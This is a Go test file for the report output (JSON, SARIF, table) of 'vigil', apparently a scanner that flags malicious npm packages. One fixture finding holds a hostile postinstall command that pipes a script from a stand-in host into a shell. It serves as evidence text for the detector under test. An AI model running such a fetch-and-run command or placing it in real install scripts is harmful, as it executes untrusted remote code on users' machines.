package report

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/analyze"
	"github.com/vigil-sec/vigil/internal/analyze/rules"
)

const (
	analyzeSchemaPath = "../../docs/vigil-analyze.schema.json"
	analyzeGolden     = "testdata/analyze_table.golden"
)

// analyzeFixture is a run with every kind of entry: a direct tarball, a
// malicious dependency with paths, a cached clean dependency, a registry
// target, a dependency that could not be fetched and a project that could
// not be read.
func analyzeFixture() *AnalyzeRun {
	evil := &analyze.Report{
		Package: "@evil/hook", Version: "1.0.0", Integrity: "sha512-AAAA", Verdict: analyze.Malicious, Score: 44,
		Findings: []analyze.Finding{
			{Rule: "VGL-A002", Name: "install-script-download", Severity: rules.Critical, Category: rules.CatInstall, File: "package.json", Line: 1,
				Evidence: "postinstall: curl -fsSL https://payload.example.net/i.sh | sh", Message: "postinstall script downloads code and pipes it into an interpreter"},
			{Rule: "VGL-A001", Name: "install-script", Severity: rules.Medium, Category: rules.CatInstall, File: "lib/run me.js", Line: 3, Col: 7, Message: "runs at install"},
		},
		Reasons: []analyze.Reason{{Source: "VGL-A002 install-script-download", Points: 40, Why: "critical"}, {Source: "VGL-A001 install-script", Points: 4, Why: "medium"}},
		Stats:   analyze.Stats{Files: 2, Bytes: 205, JSFiles: 1, JSBytes: 55},
	}
	clean := &analyze.Report{Package: "tiny-pad", Version: "1.0.0", Integrity: "sha512-BBBB", Verdict: analyze.Clean, Findings: []analyze.Finding{}, Stats: analyze.Stats{Files: 2}}
	low := &analyze.Report{Package: "helper", Version: "2.1.0", Verdict: analyze.Clean, Score: 1,
		Findings: []analyze.Finding{{Rule: "VGL-A040", Name: "env-read", Severity: rules.Low, Category: rules.CatSecrets, File: "index.js", Line: 2, Col: 1, Message: "reads an environment variable"}},
		Stats:    analyze.Stats{Files: 1}}
	direct := &analyze.Report{Package: "tiny-swap", Version: "2.0.0", Integrity: "sha512-CCCC", Verdict: analyze.Suspicious, Score: 12,
		Findings: []analyze.Finding{{Rule: "VGL-A010", Name: "browser-network-hook", Severity: rules.High, Category: rules.CatNetworkHook, File: "index.js", Line: 20, Col: 1, Message: "wraps fetch \x1b[31m"}},
		Stats:    analyze.Stats{Files: 2, Bytes: 1000, JSFiles: 1, JSBytes: 900, ParseFailures: []string{"bad.js"}}}
	return &AnalyzeRun{
		Started:  time.Date(2026, 11, 29, 10, 0, 0, 0, time.UTC),
		Duration: 1500 * time.Millisecond,
		Projects: []AnalyzeProject{
			{Path: "app/package-lock.json", Kind: AnalyzeKindLockfile, Format: "package-lock.json v3", Packages: 4, Installed: 1, Skipped: map[string]int{"workspace": 1, "bundled": 2}},
			{Path: "broken/yarn.lock", Kind: AnalyzeKindLockfile, Skipped: map[string]int{}, Error: "cannot read: broken/yarn.lock:3:1: unexpected token"},
		},
		Results: []AnalyzeResult{
			{Target: "pkg.tgz", Kind: AnalyzeKindTarball, Status: "analysed", Report: direct, Source: SourceFile, Location: "pkg.tgz", Warnings: []string{"link: \"x\": a symlink"}},
			{Target: "@evil/hook@1.0.0", Kind: AnalyzeKindDependency, Status: "analysed", Report: evil, Project: "app/package-lock.json",
				Source: SourceRegistry, Location: "https://registry.npmjs.org/@evil/hook/-/hook-1.0.0.tgz",
				Fetch: &AnalyzeFetch{Registry: "https://registry.npmjs.org/", TarballURL: "https://registry.npmjs.org/@evil/hook/-/hook-1.0.0.tgz", Integrity: "sha512-AAAA", Verified: true, Note: "verified against the lockfile's integrity"},
				Paths: [][]string{{"app", "helper@2.1.0", "@evil/hook@1.0.0"}, {"app", "@evil/hook@1.0.0"}}},
			{Target: "tiny-pad@1.0.0", Kind: AnalyzeKindDependency, Status: "analysed", Report: clean, Project: "app/package-lock.json", Source: SourceVerdictCache, Cached: true},
			{Target: "helper@2.1.0", Kind: AnalyzeKindDependency, Status: "analysed", Report: low, Project: "app/package-lock.json", Source: SourceNodeModules, Location: "app/node_modules/helper"},
			{Target: "gone@9.9.9", Kind: AnalyzeKindDependency, Status: "error", Error: "cannot fetch: HTTP 404", Project: "app/package-lock.json", Source: SourceRegistry,
				Paths: [][]string{{"app", "gone@9.9.9"}}},
			{Target: "broken/yarn.lock", Kind: AnalyzeKindLockfile, Status: "error", Error: "cannot read: broken/yarn.lock:3:1: unexpected token", Project: "broken/yarn.lock"},
		},
	}
}

func renderAnalyze(t *testing.T, format string, run *AnalyzeRun) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteAnalyze(format, &buf, run, Options{Version: "1.2.3"}); err != nil {
		t.Fatalf("WriteAnalyze(%s): %v", format, err)
	}
	return buf.Bytes()
}

func analyzeCases() map[string]*AnalyzeRun {
	return map[string]*AnalyzeRun{
		"fixture":   analyzeFixture(),
		"empty":     {},
		"one error": {Results: []AnalyzeResult{{Target: "x.tgz", Kind: AnalyzeKindTarball, Status: "error", Error: "cannot read: gzip: invalid header"}}},
	}
}

func TestAnalyzeSummarize(t *testing.T) {
	s := Summarize(analyzeFixture())
	want := AnalyzeSummary{Reports: 6, Analysed: 4, Clean: 2, Suspicious: 1, Malicious: 1, Errors: 2, CacheHits: 1, Skipped: 3,
		Sources: map[string]int{SourceFile: 1, SourceRegistry: 2, SourceVerdictCache: 1, SourceNodeModules: 1}}
	got, _ := json.Marshal(s)
	exp, _ := json.Marshal(want)
	if !bytes.Equal(got, exp) {
		t.Errorf("Summarize:\n got %s\nwant %s", got, exp)
	}
}

func TestAnalyzeJSONMatchesSchema(t *testing.T) {
	sch := compileSchema(t, analyzeSchemaPath)
	for name, run := range analyzeCases() {
		out := renderAnalyze(t, "json", run)
		if err := sch.Validate(instance(t, out)); err != nil {
			t.Errorf("%s: output does not match %s:\n%v\n%s", name, analyzeSchemaPath, err, out)
		}
	}
	out := renderAnalyze(t, "json", &AnalyzeRun{})
	if !bytes.Contains(out, []byte(`"reports": []`)) || !bytes.Contains(out, []byte(`"projects": []`)) || !bytes.Contains(out, []byte(`"tool": "vigil 1.2.3"`)) {
		t.Errorf("empty run: lists must be [] and the tool named:\n%s", out)
	}
}

// The schema must notice drift: unknown or renamed fields, an error entry
// with a verdict, an analysed entry without one, unknown enum values.
func TestAnalyzeJSONSchemaRejectsDrift(t *testing.T) {
	sch := compileSchema(t, analyzeSchemaPath)
	out := renderAnalyze(t, "json", analyzeFixture())
	entry := func(m map[string]any, i int) map[string]any { return m["reports"].([]any)[i].(map[string]any) }
	mutations := map[string]func(m map[string]any){
		"unknown top-level field":  func(m map[string]any) { m["extra"] = 1 },
		"missing summary":          func(m map[string]any) { delete(m, "summary") },
		"other schema version":     func(m map[string]any) { m["schema_version"] = "1.0" },
		"unknown report field":     func(m map[string]any) { entry(m, 0)["verdict_reason"] = "x" },
		"renamed verdict":          func(m map[string]any) { entry(m, 0)["verdict"] = "bad" },
		"unknown source":           func(m map[string]any) { entry(m, 1)["source"] = "ftp" },
		"error with a verdict":     func(m map[string]any) { entry(m, 4)["verdict"] = "clean" },
		"analysed without verdict": func(m map[string]any) { delete(entry(m, 0), "verdict") },
		"analysed with an error":   func(m map[string]any) { entry(m, 0)["error"] = "x" },
		"cached missing":           func(m map[string]any) { delete(entry(m, 0), "cached") },
		"finding severity renamed": func(m map[string]any) { entry(m, 1)["findings"].([]any)[0].(map[string]any)["severity"] = "severe" },
		"finding line 0":           func(m map[string]any) { entry(m, 1)["findings"].([]any)[0].(map[string]any)["line"] = 0 },
		"bad integrity":            func(m map[string]any) { entry(m, 1)["integrity"] = "md5-xyz" },
		"unknown skip reason": func(m map[string]any) {
			m["projects"].([]any)[0].(map[string]any)["skipped"].(map[string]any)["vendored"] = 1
		},
		"bad time": func(m map[string]any) { m["started"] = "yesterday" },
		"camelCase summary field": func(m map[string]any) {
			s := m["summary"].(map[string]any)
			s["cacheHits"] = s["cache_hits"]
			delete(s, "cache_hits")
		},
		"negative count":            func(m map[string]any) { m["summary"].(map[string]any)["errors"] = -1 },
		"empty path in paths list":  func(m map[string]any) { entry(m, 1)["paths"] = []any{[]any{}} },
		"fetch without integrity":   func(m map[string]any) { delete(entry(m, 1)["fetch"].(map[string]any), "integrity") },
		"unknown kind of target":    func(m map[string]any) { entry(m, 0)["kind"] = "zip" },
		"unknown source in summary": func(m map[string]any) { m["summary"].(map[string]any)["sources"].(map[string]any)["ftp"] = 1 },
	}
	for name, mutate := range mutations {
		var m map[string]any
		if err := json.Unmarshal(out, &m); err != nil {
			t.Fatal(err)
		}
		mutate(m)
		data, _ := json.Marshal(m)
		if err := sch.Validate(instance(t, data)); err == nil {
			t.Errorf("%s: schema accepted it", name)
		}
	}
}

// TestAnalyzeJSONSchemaDocumented checks that every property of the
// analyze schema is named in the analyze section of docs/json-schema.md,
// and that the section's example is a valid report.
func TestAnalyzeJSONSchemaDocumented(t *testing.T) {
	raw, err := os.ReadFile(analyzeSchemaPath)
	if err != nil {
		t.Fatal(err)
	}
	page, err := os.ReadFile(jsonSchemaDoc)
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := bytes.Cut(page, []byte("# `vigil analyze --format json`"))
	if !ok {
		t.Fatalf("%s has no section for vigil analyze", jsonSchemaDoc)
	}
	names := schemaPropertyNames(t, raw)
	for _, name := range names {
		if !bytes.Contains(section, []byte("`"+name+"`")) {
			t.Errorf("schema property %q is not documented in the analyze section of %s", name, jsonSchemaDoc)
		}
	}
	m := regexp.MustCompile("(?s)```json\n(.*?)```").FindSubmatch(section)
	if m == nil {
		t.Fatalf("the analyze section of %s has no json example", jsonSchemaDoc)
	}
	if err := compileSchema(t, analyzeSchemaPath).Validate(instance(t, m[1])); err != nil {
		t.Errorf("the analyze example in %s does not match the schema:\n%v", jsonSchemaDoc, err)
	}
}

func TestAnalyzeSARIFMatchesOfficialSchema(t *testing.T) {
	sch := compileSchema(t, sarifSchemaPath)
	for name, run := range analyzeCases() {
		out := renderAnalyze(t, "sarif", run)
		if err := sch.Validate(instance(t, out)); err != nil {
			t.Errorf("%s: SARIF output does not match the SARIF 2.1.0 schema:\n%v", name, err)
		}
	}
}

func TestAnalyzeSARIFContent(t *testing.T) {
	var log struct {
		Runs []struct {
			Tool struct {
				Driver struct {
					Rules []struct {
						ID               string `json:"id"`
						Name             string `json:"name"`
						ShortDescription struct{ Text string }
						FullDescription  struct{ Text string }
						Help             struct{ Text string }
						HelpURI          string `json:"helpUri"`
						Default          struct {
							Level string `json:"level"`
						} `json:"defaultConfiguration"`
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Properties struct {
				CleanPackagesOmitted int `json:"cleanPackagesOmitted"`
			} `json:"properties"`
			Invocations []struct {
				ExecutionSuccessful bool `json:"executionSuccessful"`
				Notifications       []struct {
					Message struct{ Text string } `json:"message"`
				} `json:"toolExecutionNotifications"`
			} `json:"invocations"`
			Results []struct {
				RuleID    string `json:"ruleId"`
				RuleIndex int    `json:"ruleIndex"`
				Level     string `json:"level"`
				Message   struct{ Text string }
				Locations []struct {
					Physical struct {
						Artifact struct {
							URI  string `json:"uri"`
							Base string `json:"uriBaseId"`
						} `json:"artifactLocation"`
						Region *struct {
							StartLine   int `json:"startLine"`
							StartColumn int `json:"startColumn"`
							Snippet     struct{ Text string }
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
				Properties struct {
					Verdict string     `json:"verdict"`
					Score   int        `json:"score"`
					PURL    string     `json:"purl"`
					Paths   [][]string `json:"paths"`
					Source  string     `json:"source"`
				} `json:"properties"`
			} `json:"results"`
		} `json:"runs"`
	}
	out := renderAnalyze(t, "sarif", analyzeFixture())
	if err := json.Unmarshal(out, &log); err != nil {
		t.Fatal(err)
	}
	run := log.Runs[0]
	all := rules.All()
	if len(run.Tool.Driver.Rules) < len(all) {
		t.Fatalf("%d rules, want every one of the engine's %d", len(run.Tool.Driver.Rules), len(all))
	}
	for i, r := range all {
		got := run.Tool.Driver.Rules[i]
		if got.ID != r.ID || got.Name != r.Name || got.ShortDescription.Text == "" || got.FullDescription.Text == "" ||
			!strings.Contains(got.Help.Text, got.ShortDescription.Text) || !strings.HasSuffix(got.HelpURI, "#"+strings.ToLower(r.ID+"-"+r.Name)) ||
			got.Default.Level != analyzeSarifLevel(r.Severity) {
			t.Errorf("rule %d: %+v, want %s %s", i, got, r.ID, r.Name)
		}
	}
	// The clean package's low finding (VGL-A040) is not an alert: only
	// packages that are not clean report results; the run counts it.
	if len(run.Results) != 3 {
		t.Fatalf("%d results, want the 3 findings of the packages that are not clean", len(run.Results))
	}
	if run.Properties.CleanPackagesOmitted != 1 {
		t.Errorf("cleanPackagesOmitted %d, want 1", run.Properties.CleanPackagesOmitted)
	}
	byRule := map[string]int{}
	for i, r := range run.Results {
		byRule[r.RuleID] = i
		if run.Tool.Driver.Rules[r.RuleIndex].ID != r.RuleID {
			t.Errorf("result %d: ruleIndex %d is not %s", i, r.RuleIndex, r.RuleID)
		}
	}
	crit := run.Results[byRule["VGL-A002"]]
	loc := crit.Locations[0].Physical
	if crit.Level != "error" || loc.Artifact.URI != "@evil/hook@1.0.0/package.json" || loc.Artifact.Base != "PACKAGES" ||
		loc.Region == nil || loc.Region.StartLine != 1 || loc.Region.StartColumn != 0 || !strings.Contains(loc.Region.Snippet.Text, "curl") ||
		crit.Properties.Verdict != "malicious" || crit.Properties.Score != 44 || crit.Properties.PURL != "pkg:npm/%40evil/hook@1.0.0" ||
		len(crit.Properties.Paths) != 2 || crit.Properties.Source != "registry" || !strings.Contains(crit.Message.Text, "Package verdict: malicious.") {
		t.Errorf("critical finding: %+v", crit)
	}
	if med := run.Results[byRule["VGL-A001"]]; med.Level != "warning" || med.Locations[0].Physical.Artifact.URI != "@evil/hook@1.0.0/lib/run%20me.js" ||
		med.Locations[0].Physical.Region.StartColumn != 7 {
		t.Errorf("medium finding: %+v", med)
	}
	if _, ok := byRule["VGL-A040"]; ok {
		t.Errorf("the clean package's finding was reported as a result")
	}
	if hi := run.Results[byRule["VGL-A010"]]; strings.Contains(hi.Message.Text, "\x1b") {
		t.Errorf("control character reached the SARIF message: %q", hi.Message.Text)
	}
	inv := run.Invocations[0]
	if inv.ExecutionSuccessful || len(inv.Notifications) != 2 || !strings.Contains(inv.Notifications[0].Message.Text, "gone@9.9.9") {
		t.Errorf("invocation: %+v", inv)
	}
}

func TestPackageFileURI(t *testing.T) {
	tests := []struct{ name, version, path, want string }{
		{"left-pad", "1.3.0", "index.js", "left-pad@1.3.0/index.js"},
		{"@scope/pkg", "1.0.0", "lib/a b.js", "@scope/pkg@1.0.0/lib/a%20b.js"},
		{"left-pad", "1.3.0", "", "left-pad@1.3.0"},
		{"x", "1.0.0", "dir/%41.js", "x@1.0.0/dir/%2541.js"},
		{"a:b", "1", "c", "./a:b@1/c"},
		{"x", "1", "ünï\x00.js", "x@1/%C3%BCn%C3%AF%00.js"},
	}
	for _, tt := range tests {
		if got := PackageFileURI(tt.name, tt.version, tt.path); got != tt.want {
			t.Errorf("PackageFileURI(%q, %q, %q) = %q, want %q", tt.name, tt.version, tt.path, got, tt.want)
		}
	}
}

func TestAnalyzeTableGolden(t *testing.T) {
	got := renderAnalyze(t, "table", analyzeFixture())
	path := filepath.Clean(analyzeGolden)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("table differs from %s (run go test -update to accept):\n%s", path, lineDiff(string(want), string(got)))
	}
	for _, never := range []string{"\x1b", "tiny-pad@1.0.0  CLEAN", "helper@2.1.0  CLEAN"} {
		if bytes.Contains(got, []byte(never)) {
			t.Errorf("table holds %q: clean dependencies are only counted, control characters never printed", never)
		}
	}
}

func TestWriteAnalyzeUnknownFormat(t *testing.T) {
	if err := WriteAnalyze("markdown", &bytes.Buffer{}, &AnalyzeRun{}, Options{}); err == nil {
		t.Error("markdown accepted")
	}
	if err := WriteAnalyze("json", &bytes.Buffer{}, nil, Options{}); err == nil {
		t.Error("nil run accepted")
	}
}
